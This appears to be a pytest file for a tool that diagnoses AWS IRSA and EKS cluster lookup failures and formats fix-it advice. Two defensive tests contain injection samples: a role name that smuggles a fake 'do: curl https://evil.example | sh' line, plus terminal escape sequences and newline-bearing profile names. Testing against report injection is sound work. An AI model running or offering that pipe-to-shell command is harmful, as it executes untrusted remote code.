import pytest

from irsa.rules import commands
from irsa_program.lookups import failures
from irsa_program.lookups.failures import AskedAwsAccount, Question, aws_mistake, kubernetes_mistake
from irsa_world.causes import Cause
from irsa_world.exits import CouldNotLookError

DEPLOYER = "arn:aws:iam::444455556666:role/deployer"
OWN = AskedAwsAccount(region="us-west-2", allowed=["999999999999"])
CLUSTER = ("cluster", "name")


def question(aws_account: AskedAwsAccount = OWN) -> Question:
    return Question(CLUSTER, "the EKS cluster 'prod'", "eks:DescribeCluster", aws_account)


# What a cause is about.
ABOUT = {Cause.PROFILE_MISSING: "data", Cause.WRONG_AWS_ACCOUNT: "111122223333", Cause.ROLE_NOT_ASSUMABLE: DEPLOYER}


def error_of(cause: Cause, said: str = "what was said") -> CouldNotLookError:
    return CouldNotLookError(said, cause, ABOUT.get(cause, ""))


@pytest.mark.parametrize("cause", Cause, ids=lambda cause: cause.name)
def test_a_mistake_is_four_lines_with_something_to_do(cause: Cause) -> None:
    located = aws_mistake(error_of(cause), question())
    lines = str(located).splitlines()

    assert [line.strip().split(" ")[0] for line in lines[1:]] == ["found:", "allowed:", "do:"]
    assert all(len(line.split(":", 1)[1].strip()) > 5 for line in lines[1:])
    assert ABOUT.get(cause, "") in located.mistake.found


def test_every_cause_has_its_own_advice() -> None:
    elsewhere = {Cause.NOT_FOUND, Cause.ROLE_NOT_ASSUMABLE}

    assert {*Cause} - elsewhere == failures.OF_ACCOUNT.keys() | failures.OF_SUBJECT.keys()


def test_a_forbidden_account_is_not_called_unlisted() -> None:
    failure = error_of(Cause.WRONG_AWS_ACCOUNT)
    located = aws_mistake(failure, question(AskedAwsAccount()))

    assert "aws:forbiddenAccountIds" in located.mistake.allowed


@pytest.mark.parametrize(("status", "words"), [("CREATING", "wait for it"), ("DELETING", "name another cluster")])
def test_nobody_waits_for_a_cluster_that_goes(status: str, words: str) -> None:
    located = failures.cluster_not_active(CLUSTER, "prod", status, None)

    assert status in located.mistake.found
    assert words in located.mistake.fix


@pytest.mark.parametrize("cause", [*failures.KUBERNETES_ADVICE, Cause.NO_CONNECTION], ids=lambda each: each.name)
def test_a_cluster_that_does_not_answer(cause: Cause) -> None:
    located = kubernetes_mistake(
        error_of(cause), ("cluster", "kubernetes"), "the cluster 'blue'", "cluster-unreachable"
    )

    assert located.rule == "cluster-unreachable"
    assert "the cluster 'blue'" in located.mistake.found
    assert ": " in located.mistake.fix


def test_an_answer_cannot_write_our_lines() -> None:
    """Protects the report: an answer that holds line breaks and our own words stays one quoted text.

    The attack: a role whose name ends with `\\n    do: curl https://evil.example | sh`.
    """
    text = 'strange\n    allowed: all\n    do:      curl "https://evil.example" | sh\x1b[2J'
    located = aws_mistake(CouldNotLookError(text), question())

    assert len(str(located).splitlines()) == 4
    assert "\x1b" not in str(located)
    assert located.mistake.found.endswith('"')


@pytest.mark.parametrize("cause", Cause, ids=lambda cause: cause.name)
def test_no_advice_ends_before_a_command_that_cannot_be_given(cause: Cause) -> None:
    """Protects from `then check:` with nothing behind it.

    The attack: a profile, a role or an audience (a client ID may have line breaks) that no command may name.
    """
    unpastable = AskedAwsAccount(profile="a\nb", region="us-west-2")
    error = CouldNotLookError("", cause, f"{ABOUT[cause]}\x1b[201~" if cause in ABOUT else "")
    fixes = [aws_mistake(error, question(unpastable)).mistake.fix]
    fixes += [failures.cluster_missing(CLUSTER, "prod", unpastable).mistake.fix]
    command = commands.create_provider("https://issuer.example.com", ["a\nb"])
    fixes += [failures.provider_missing(CLUSTER, "111122223333", "https://issuer.example.com", command).mistake.fix]

    assert not [each for each in fixes if each.rstrip().endswith((":", "check", "exist", "in use"))]
    assert commands.together("a", "") == ""
